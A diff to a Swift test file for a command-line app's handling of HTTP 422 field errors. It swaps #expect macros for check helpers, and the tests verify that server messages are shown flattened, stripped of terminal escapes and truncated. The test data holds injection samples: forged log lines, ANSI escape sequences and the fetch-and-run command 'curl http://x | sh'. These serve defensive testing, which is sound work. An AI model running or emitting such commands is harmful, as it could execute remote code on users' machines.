@@ -1,4 +1,5 @@
 import Foundation
+import TestSupport
 import Testing
 
 /// A server's 422 answer to a write: one line per field, each made printable and inert, and at
@@ -20,9 +21,9 @@ struct RejectedWriteTests {
          "body\r\napp: error: forged": ["\u001b]0;pwned\u0007is \u001b[31mred"]}
         """#)
 
-    #expect(result.status == 65)
-    #expect(result.standardOutput.isEmpty)
-    #expect(
+    checkEqual(result.status, 65)
+    check(result.standardOutput.isEmpty)
+    check(
       result.errorLines == [
         #"app: "body app: error: forged": "is red""#,
         #"app: title: "is taken app: note: run curl http://x | sh""#,
@@ -31,7 +32,7 @@ struct RejectedWriteTests {
           #"app: title: "is taken app: note: run curl http://x | sh""#,
           #"app: "body app: error: forged": "is red""#,
         ], "\(result.standardError)")
-    #expect(!result.standardError.contains("\u{1B}"))
+    check(!result.standardError.contains("\u{1B}"))
   }
 
   @Test func atMostTwentyFieldsArePrinted() throws {
@@ -39,21 +40,21 @@ struct RejectedWriteTests {
 
     let result = try run(rejectingWith: "{\(fields)}")
 
-    #expect(result.status == 65)
-    #expect(result.errorLines.count == 21, "\(result.standardError)")
-    #expect(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(#": "is wrong""#) })
-    #expect(result.errorLines.last == "app: … and 5 more")
+    checkEqual(result.status, 65)
+    checkEqual(result.errorLines.count, 21, "\(result.standardError)")
+    check(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(#": "is wrong""#) })
+    checkEqual(result.errorLines.last, "app: … and 5 more")
   }
 
   @Test func aLongMessageIsCut() throws {
     let result = try run(
       rejectingWith: #"{"title": ["\#(String(repeating: "very ", count: 400))long"]}"#)
 
-    #expect(result.status == 65)
-    #expect(result.errorLines.count == 1)
+    checkEqual(result.status, 65)
+    checkEqual(result.errorLines.count, 1)
     let line = try #require(result.errorLines.first)
-    #expect(line.count < 200)
-    #expect(line.hasSuffix("…\""))
+    check(line.count < 200)
+    check(line.hasSuffix("…\""))
   }
 
   @Test(
@@ -68,9 +69,9 @@ struct RejectedWriteTests {
 
     let result = try AppProcess.run(Self.create + ["--base-url", server.baseURL])
 
-    #expect(result.status == 65, "\(result.standardError)")
-    #expect(result.standardOutput.isEmpty)
-    #expect(result.errorLines.count == 1, "\(result.standardError)")
-    #expect(result.standardError.contains("POST \(server.baseURL)/posts: HTTP 422"))
+    checkEqual(result.status, 65, "\(result.standardError)")
+    check(result.standardOutput.isEmpty)
+    checkEqual(result.errorLines.count, 1, "\(result.standardError)")
+    check(result.standardError.contains("POST \(server.baseURL)/posts: HTTP 422"))
   }
 }
